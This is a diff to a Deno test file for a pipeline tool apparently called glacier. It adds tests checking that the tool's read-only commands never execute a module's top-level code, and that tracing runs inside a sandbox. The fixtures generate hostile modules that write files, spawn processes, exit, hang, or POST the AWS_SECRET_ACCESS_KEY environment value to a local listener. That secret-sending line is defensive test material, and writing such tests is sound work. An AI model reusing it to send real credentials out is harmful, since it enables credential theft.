@@ -78,20 +78,123 @@ Deno.test("glacier analyze reports what it could not decide, and --trace follows
   assert.deepEqual(ids, ["load", "quick", "quick#2", "save"]);
 });
 
-Deno.test("glacier analyze and graph import the file without running its tasks or its top-level run()", async () => {
-  const dir = await Deno.makeTempDir();
+// A module whose top level does what a hostile or careless one would: writes a
+// file, spawns a process, sends a secret from the environment to a listener,
+// exits, or hangs. Commands that read pipelines must do none of it.
+const HOSTILE_ACTS = {
+  write: (dir: string) => `Deno.writeTextFileSync(${JSON.stringify(`${dir}/written`)}, "x");`,
+  spawn: (dir: string) =>
+    `new Deno.Command("touch", { args: [${JSON.stringify(`${dir}/spawned`)}] }).outputSync();`,
+  exfiltrate: (_dir: string, port: number) =>
+    `await fetch("http://127.0.0.1:${port}/", { method: "POST", body: Deno.env.get("AWS_SECRET_ACCESS_KEY") ?? "none" });`,
+  exit: () => "Deno.exit(42);",
+  hang: () => "while (true) { /* spin */ }",
+} as const;
+
+// Inside the project, as a user's module is (the build packs project modules).
+async function projectTempDir(): Promise<string> {
+  await Deno.mkdir(`${ROOT}.glacier/tmp`, { recursive: true });
+  return await Deno.makeTempDir({ dir: `${ROOT}.glacier/tmp` });
+}
+
+async function hostileModule(act: keyof typeof HOSTILE_ACTS, dir: string, port: number): Promise<string> {
+  const file = `${dir}/pipeline_${act}.ts`;
+  await Deno.writeTextFile(
+    file,
+    `import { AwsConfig, LambdaConfig, pipeline, Provider } from ${JSON.stringify(`${ROOT}mod.ts`)};
+${HOSTILE_ACTS[act](dir, port)}
+const aws = new Provider({ config: new AwsConfig({ region: "us-east-1" }) });
+const fn = aws.serverless({ config: new LambdaConfig({ memory: 512 }) });
+const add = fn.task(function add(a: number, b: number) { return a + b; });
+export const hostile = pipeline({ name: "hostile" }, () => add(add(1, 2), 3));
+await hostile.run();
+`,
+  );
+  return file;
+}
+
+Deno.test("glacier analyze, graph, generate, deploy and build read the file: its top level never runs", async () => {
+  const dir = await projectTempDir();
+  const received: string[] = [];
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
+    received.push(await req.text());
+    return new Response("ok");
+  });
   try {
-    for (const args of [["analyze", "--json"], ["graph"], ["analyze", "--trace"]]) {
-      const { code, stderr } = await glacier([args[0], `${FIXTURES}/no_run.ts`, ...args.slice(1)], {
-        GLACIER_MARKER_DIR: dir,
-      });
-      assert.equal(code, 0, stderr);
+    const commands = [
+      ["analyze", "--json"],
+      ["graph", "--format", "dot"],
+      ["generate", "--format", "terraform"],
+      ["deploy", "--orchestrator", "airflow"],
+      ["build", "--output-dir", dir],
+    ];
+    for (const act of Object.keys(HOSTILE_ACTS) as (keyof typeof HOSTILE_ACTS)[]) {
+      const file = await hostileModule(act, dir, server.addr.port);
+      // One build is enough to show it reads the module (each packs ~60 MB).
+      for (const [command, ...rest] of commands.filter(([c]) => c !== "build" || act === "exit")) {
+        const { code, stdout, stderr } = await glacier([command, file, ...rest], {
+          AWS_SECRET_ACCESS_KEY: "GlacierHostileSecret",
+        });
+        assert.equal(code, 0, `${act} / ${command}: ${stderr}`);
+        if (command === "analyze") assert.equal(JSON.parse(stdout).pipelines[0].nodes.length, 2);
+      }
     }
-    const markers = [...Deno.readDirSync(dir)].map((e) => e.name).sort();
-    // Importing ran the module's top level (the marker) and its run() returned undefined at once.
-    assert.deepEqual(markers, ["module-imported", "run-returned"]);
-    assert.equal(Deno.readTextFileSync(`${dir}/run-returned`), "null");
+    const left = [...Deno.readDirSync(dir)].map((e) => e.name).filter((n) =>
+      !n.endsWith(".ts") && n !== ".glacier"
+    );
+    assert.deepEqual(left, [], "the module's top level wrote or spawned something");
+    assert.deepEqual(received, [], "the module's top level reached the network");
   } finally {
+    await server.shutdown();
+    await Deno.remove(dir, { recursive: true });
+  }
+});
+
+Deno.test("glacier analyze --trace runs the module in a sandbox: no write, run, env or net, and a timeout", async () => {
+  const dir = await projectTempDir();
+  const received: string[] = [];
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
+    received.push(await req.text());
+    return new Response("ok");
+  });
+  try {
+    const expected: Record<keyof typeof HOSTILE_ACTS, RegExp> = {
+      write: /Cannot trace pipeline "hostile".*Requires write access.*read access to the project only/,
+      spawn: /Cannot trace pipeline "hostile".*Requires run access/,
+      exfiltrate: /Cannot trace pipeline "hostile".*Requires (env|net) access/,
+      exit: /Cannot trace pipeline "hostile".*exited with code 42/,
+      hang: /Tracing pipeline "hostile" .* did not finish in 3 s, so it was stopped/,
+    };
+    for (const act of Object.keys(HOSTILE_ACTS) as (keyof typeof HOSTILE_ACTS)[]) {
+      const file = await hostileModule(act, dir, server.addr.port);
+      const { code, stderr } = await glacier(["analyze", file, "--trace"], {
+        AWS_SECRET_ACCESS_KEY: "GlacierHostileSecret",
+        GLACIER_TRACE_TIMEOUT_MS: "3000",
+      });
+      assert.equal(code, 1, `${act}: ${stderr}`);
+      assert.match(stderr.replaceAll("\n", " "), expected[act]);
+      assert.match(stderr, /runs .* in a subprocess that may only read the project/);
+    }
+    const left = [...Deno.readDirSync(dir)].map((e) => e.name).filter((n) => !n.endsWith(".ts"));
+    assert.deepEqual(left, []);
+    assert.deepEqual(received, []);
+    // A well-behaved module traces: its top-level run() is a no-op and no task body runs.
+    const file = `${dir}/pipeline_ok.ts`;
+    await Deno.writeTextFile(
+      file,
+      `import { pipeline, Provider } from ${JSON.stringify(`${ROOT}mod.ts`)};
+const local = new Provider().local();
+const boom = local.task(function boom(n: number): number { throw new Error("task ran " + n); });
+export const ok = pipeline({ name: "ok" }, (p: { twice?: boolean }) => p.twice ? boom(boom(1)) : boom(1));
+await ok.run();
+`,
+    );
+    const traced = await glacier(["analyze", file, "--trace", "--json", "--params", "twice=true"]);
+    assert.equal(traced.code, 0, traced.stderr);
+    const ids = JSON.parse(traced.stdout).pipelines[0].nodes.map((n: { id: string }) => n.id);
+    assert.deepEqual(ids, ["boom", "boom#2"]);
+  } finally {
+    await server.shutdown();
     await Deno.remove(dir, { recursive: true });
   }
 });
